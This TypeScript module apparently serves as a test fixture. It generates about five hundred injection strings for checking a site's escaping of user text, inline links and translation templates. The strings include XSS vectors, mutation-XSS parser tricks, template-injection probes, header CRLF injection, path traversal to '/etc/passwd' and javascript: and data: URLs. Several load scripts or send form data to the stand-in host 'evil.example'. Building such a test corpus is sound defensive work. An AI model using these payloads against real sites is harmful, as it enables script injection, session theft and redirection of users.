/**
 * Five hundred texts that try to become more than text: each would open a dialog and leave a mark, ask another host, or
 * add an element or attribute, in one context or another (WHATWG HTML's parser and its differences to XML, the inline
 * links of ours, i18next, JSON, CSS, headers, addresses). None is longer than a name may be, none holds half a character.
 */
export interface Payload {
  text: string;
  /** what is read of it where inline links are links */
  shown: string;
  /** words of the same shape: with the same line breaks, and a link where the payload rightly is one */
  harmless: string;
}

/** What the payloads do where they get through: a dialog, and a mark on the window. */
const act = "alert(__hit=1)";
const image = `<img src=x onerror=${act}>`;
const script = `<script>${act}</script>`;
/** The host that some ask. */
const host = "evil.example";

/** Elements that run something by themselves, up to the handler's `=`. */
const handlers = [
  ...["img src=x onerror", "svg onload", "body onload", "iframe onload", "frameset onload", "style onload"],
  ...["video src=x onerror", "video><source onerror", "audio src=x onloadstart", "object data=x onerror"],
  ...["embed src=x onload", "link rel=stylesheet href=x onerror", "details open ontoggle", "marquee onstart"],
  ...[
    "input autofocus onfocus",
    "select autofocus onfocus",
    "textarea autofocus onfocus",
    "a href=# autofocus onfocus",
  ],
  ...["p tabindex=0 autofocus onfocus", "x-x contenteditable autofocus onfocus", "input type=image src=x onerror"],
  ...["svg><animate attributeName=x dur=1s onbegin", "svg><set attributeName=x onbegin", "svg><image href=x onerror"],
].flatMap((start) => [
  `<${start}=${act}>`,
  `<${start.replaceAll(" ", "/")}="${act}"//`,
  `<${start.toUpperCase().replaceAll(" ", "\n")}='${act}' `,
]);

const scripts = [
  ...[script, `<SCRIPT>${act}</SCRIPT>`, `<scr<script>ipt>${act}</scr</script>ipt>`, `<script/x>${act}</script/x>`],
  ...[`<script\f>${act}</script\f>`, `<script\n>${act}</script\n>`, `<script>${act}`, `<<script>${act}//<</script>`],
  ...[`<script src=//${host}/x.js></script>`, `<script src=https://${host}/x.js async></script>`],
  ...[`<script src="data:text/javascript,${act}"></script>`, `<script type=module>import "//${host}/x.js"</script>`],
  ...[`<script type=importmap>{"imports":{"/":"//${host}/"}}</script>`, `<script nonce="">${act}</script>`],
  ...[`<svg><script>${act}</script></svg>`, `<svg><script href="data:,${act}"/>`, `<svg><script>&#97;lert(1)</script>`],
  ...[`<math><script>${act}</script>`, `<script>/*</script>*/${act}</script>`, `<noscript>${script}</noscript>`],
  `<script type=speculationrules>{"prefetch":[{"urls":["//${host}/"]}]}</script>`,
];

/** Out of an attribute, whatever stands around it. */
const attributeBreaks = ['"', "'", "`", '\\"', "&quot;", "&#x27;", "%22", "\uff02"].flatMap((quote) => [
  `${quote} onfocus=${act} autofocus x=${quote}`,
  `${quote}>${image}`,
  `${quote}/>${script}<x y=${quote}`,
  `${quote};${act};//${quote}`,
  `x${quote}style=animation-name:x onanimationstart=${act}//`,
]);

/** Out of the element that they stand in. */
const closings = [
  ...["title", "textarea", "style", "script", "noscript", "xmp", "iframe", "noembed", "noframes", "option", "select"],
  ...["template", "svg", "math", "table", "a", "button", "h1", "p", "head", "body", "html", "form", "dialog"],
].flatMap((name) => [`</${name}>${image}`, `</${name.toUpperCase()}\t/x>${script}<${name}>`]);

const comments = [
  ...[`-->${image}`, `--!>${image}`, `<!-->${image}-->`, `<!--->${image}`, `<!--${image}`, `<!-- --!>${image}<!-- -->`],
  ...[
    `<!--<script>${act}-->`,
    `<![CDATA[${image}]]>`,
    `]]>${image}`,
    `<svg><![CDATA[><${image}]]></svg>`,
    `<?x ${image}?>`,
  ],
  ...[`<!x>${image}`, `</ ${image}`, `<!DOCTYPE x [<!ENTITY y "${image}">]>&y;`, `<![if IE]>${image}<![endif]>`],
];

/** Out of JSON in a script, and out of a script's own words. */
const jsonBreaks = [
  ...[
    `"}</script>${script}`,
    `</script\t>${image}`,
    `<\\/script>${image}`,
    `\u2028${act}\u2029//`,
    `"};${act};({"x":"`,
  ],
  ...[
    `\\"};${act}//`,
    `\\\\"};${act}//`,
    `'+${act}+'`,
    `"-${act}-"`,
    `\\u003c/script\\u003e${script}`,
    "\\",
    '\\"',
    "*/" + act,
  ],
  ...[
    `\\u0022};${act}//`,
    `{"__proto__":{"onload":"${act}"}}`,
    `<!--<script>"}${image}`,
    `${"`"}-${act}-${"`"}`,
    `\\x3cimg>`,
  ],
];

const templates = [
  ...[
    "{{constructor.constructor('alert(__hit=1)')()}}",
    "{{7*7}}",
    "{{{7*7}}}",
    `{{- "${image}"}}`,
    "{{customerName}}",
  ],
  ...[
    "{{name}}",
    "{{- name}}",
    "{{count}}",
    "{{name, uppercase}}",
    "{{__proto__}}",
    "$t(quote.greeting)",
    "$t(footer.heading)",
  ],
  ...['$t(notFound.text, {"count": 1})', "$t(admin:lists.quotes.heading)", "$t($t(footer.heading))", `\${${act}}`],
  ...[
    "#{7*7}",
    "<%= 7*7 %>",
    "{% raw %}",
    "[[7*7]]",
    "@{7*7}",
    "*{7*7}",
    "$&$&",
    "$1$2",
    "$`",
    "$'",
    "$$",
    "%s%d%o%c",
    "%n",
  ],
  ...[
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "<0>x</0>",
    "<Trans>x</Trans>",
    "[object Object]",
    "null",
  ],
];

const styles = [
  ...[`<style>@import "//${host}/x.css"</style>`, `<style>*{background:url(//${host}/x)}</style>`],
  ...[`<link rel=stylesheet href=//${host}/x.css>`, `<p style="background:url(//${host}/x)">`, `x:expression(${act})`],
  ...[
    `<p style=position:fixed;inset:0;z-index:9>`,
    `;background:url(javascript:${act})`,
    `}*{display:none}`,
    `@import'//${host}'`,
  ],
  ...[`<style>body{display:none}`, `\\3c script\\3e ${act}`, `<p style="behavior:url(#default#time2)" onbegin=${act}>`],
];

/** What HTML, SVG and MathML read differently, also when what was read is written and read again. */
const foreign = [
  `<svg></p><style><a id="</style>${image}">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${act}&gt;">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>${image}">`,
  `<noscript><p title="</noscript>${image}">`,
  `<listing>&lt;img src=x onerror=${act}&gt;</listing>`,
  `<xmp><p title="</xmp>${image}">`,
  `<svg><title><style></title>${image}`,
  `<svg><desc><table><img src=x onerror=${act}>`,
  `<svg><foreignObject><iframe srcdoc="${script}">`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${act}>#x">`,
  `<svg><a xlink:href=javascript:${act}><text y=20>press`,
  `<svg><animate attributeName=href values=javascript:${act} /><a><text>press`,
  `<math href=javascript:${act}>press</math>`,
  `<math><maction actiontype=statusline xlink:href=javascript:${act}>press`,
  `<math><annotation-xml encoding="text/html">${image}`,
  `<select><template>${image}`,
  `<table><td>${image}`,
  `<template shadowrootmode=open>${image}</template>`,
  `<p><svg><p>${image}`,
  `<plaintext>${image}`,
];

/** The same letters in other dress: entities, percent, UTF-7, overlong UTF-8, look-alikes, what is not seen. */
const disguises = [
  ...[
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;",
    "&#60;script&#62;",
    "&#x3c;script>",
    "&#0000060script>",
  ],
  ...[
    "&#60script&#62",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%253Cscript%253E",
    "%u003Cscript%u003E",
    "\\u003cscript\\u003e",
  ],
  ...["\\x3cscript\\x3e", "+ADw-script+AD4-alert(1)", "%c0%bcscript%c0%be", "\u00bcscript\u00be", "\uff1cscript\uff1e"],
  ...[
    "\ufe64script\ufe65",
    "\u2039script\u203a",
    "<\u0338script>",
    "<\u017fcript>",
    "<scr\u0131pt>",
    "\u560a\u560d<script>",
  ],
  ...[`<scr\0ipt>${act}</scr\0ipt>`, `<\0script>${act}`, `<img\0src=x onerror=${act}>`, `<img src=x onerror\0=${act}>`],
  ...[
    `\ufeff${image}`,
    `\u202e${image}\u202c`,
    `\u2066${script}\u2069`,
    `<im\u200dg src=x onerror=${act}>`,
    `${image}\u{e0041}`,
  ],
  ...[
    `\u0008\u007f\u0085${image}`,
    `\u000b${image}\u000c`,
    `\u0001\u001b[31m${image}`,
    `\ufffd${image}\uffff`,
    "\u{1f334}<\u{10ffff}>",
  ],
  ...[`a\u0300\u0301\u0302<b>`, "&", "&#0;", "&#xd800;", "<", ">", "<>", "</>", "&lt", "&nbsp;<b>", "\ud7ff<i>"],
];

/** Out of a header or the name of a file, and out of a text in a PDF. */
const fileBreaks = [
  ...[
    "x\r\nSet-Cookie: hit=1",
    "x\nLocation: //evil.example",
    "x\rX-Hit: 1",
    `x\r\n\r\n${script}`,
    "x%0d%0aSet-Cookie:%20hit=1",
  ],
  ...[
    `.html"; filename*=UTF-8''x.html`,
    "../../etc/passwd",
    "..\\..\\x.exe",
    "x.pdf\0.html",
    "CON",
    "x; filename=y.html",
    "\u2028x: y",
  ],
  ...[
    ")/OpenAction<</S/JavaScript/JS(app.alert(1))>>(",
    "\\)>>endobj",
    "endstream endobj xref",
    "]/AA<</O<</S/Launch>>>>[",
  ],
];

/** Elements without a script that lead elsewhere, send something away, or take the name of something of ours. */
const strangers = [
  ...[`<base href=//${host}/>`, `<meta http-equiv=refresh content="0;url=//${host}">`, `<iframe srcdoc="${script}">`],
  ...[`<meta http-equiv=Content-Security-Policy content="default-src *">`, `<iframe src=javascript:${act}>`, `<b>bold`],
  ...[
    `<form action=//${host}><button>press`,
    `<button form=log-out formaction=//${host}>`,
    `<input name=csrf type=hidden`,
  ],
  ...[
    `<img srcset=//${host}/x>`,
    `<video poster=//${host}/x>`,
    `<body background=//${host}/x>`,
    `<a ping=//${host} href=/>`,
  ],
  ...[`<object data="data:text/html,${script}">`, `<embed src=//${host}/x.swf>`, `<link rel=prefetch href=//${host}/>`],
  ...[
    `<img id=download>`,
    `<form id=language><input name=close>`,
    `<a id=__remixContext href=x:y>`,
    `<p data-island=strip>`,
  ],
  ...[
    `<dialog open>${image}</dialog>`,
    `<p popover id=menu>`,
    `<h1>Another heading</h1>`,
    `<img src=//${host}/pixel.gif>`,
  ],
];

/** Addresses that nobody should be led to by a press. */
const addresses = [
  ...[act, `//${host}/%0a${act}`, `/*--></title></style>*/${act}`].map((rest) => `javascript:${rest}`),
  ...[
    `JaVaScRiPt:${act}`,
    ` javascript:${act}`,
    `\u0001javascript:${act}`,
    `java\tscript:${act}`,
    `java\nscript:${act}`,
  ],
  ...[
    `java\0script:${act}`,
    `javascript\u00a0:${act}`,
    `&#106;avascript:${act}`,
    `java&Tab;script:${act}`,
    `javascript&colon;${act}`,
  ],
  ...[
    `javascript%3a${act}`,
    `javascript\uff1a${act}`,
    `\ufeffjavascript:${act}`,
    `view-source:javascript:${act}`,
    `feed:javascript:${act}`,
  ],
  ...[
    `data:text/html,${script}`,
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    `DATA:text/html,${image}`,
  ],
  ...[
    `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${act}'/>`,
    `data:application/xhtml+xml,${script}`,
  ],
  ...[
    "vbscript:msgbox(1)",
    "VBS:x",
    `blob:https://${host}/x`,
    "file:///etc/passwd",
    `//${host}/x`,
    `/\\${host}/x`,
    `\\\\${host}\\x`,
  ],
  ...[
    `/\t/${host}/x`,
    `///${host}/x`,
    `https:${host}`,
    `https:////${host}`,
    `/.//${host}`,
    `/a/..//${host}`,
    `https://${host}\\@localhost/`,
  ],
].flatMap((address) => [address, `#[press|${address}]`, `<a href="${address}">press</a>`]);

/** Inline links that are ones, with labels and addresses that would be more. */
const links = [
  ...[`${image}|/tours`, `"onfocus=${act}//|/tours`, "{{name}}$t(footer.heading)|/tours", `</a>${script}|/tours`],
  ...[`x|/tours"onfocus=${act}//`, `x|/tours'><img/src=x/onerror=${act}>`, `x|/tours?a="><svg/onload=${act}>&b='`],
  ...[
    `x|/tours#"onclick=${act}`,
    "x|/quote/{{name}}?q=$t(footer.heading)",
    "x|/%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
  ],
  ...["x|/javascript:alert(1)", `x|/homes?lang=<script>`, "x|/tours?lang=en&lang=<b>", `\u202ex\u202c|/tours`],
  ...[
    `x|https://${host}/"onmouseover="${act}`,
    `x|https://user:pass@${host}/<script>`,
    `x|HTTPS://${host}#javascript:${act}`,
  ],
  ...[`x|mailto:a@b"onclick="${act}`, "x|mailto:a@b?subject=&body=%0d%0aBcc:c", `x|tel:+39(0)31-0000.142`],
];

const plain = [
  ...[...scripts, ...handlers, ...attributeBreaks, ...closings, ...comments, ...jsonBreaks, ...templates, ...styles],
  ...[...foreign, ...disguises, ...fileBreaks, ...strangers, ...addresses],
];

/** All five hundred. */
export const payloads: readonly Payload[] = [
  ...plain.map(stored).map((text) => ({ text, shown: text, harmless: text.replace(/[^\n]+/g, "Word") })),
  ...links.map((link) => ({
    text: `#[${link}]`,
    shown: link.replace(/\|.*/, ""),
    harmless: `#[Word|${/\|\//.test(link) ? "/tours" : "tel:+1"}]`,
  })),
];

/** Line breaks as they are stored. */
function stored(text: string): string {
  return text.replace(/\r\n?/g, "\n");
}
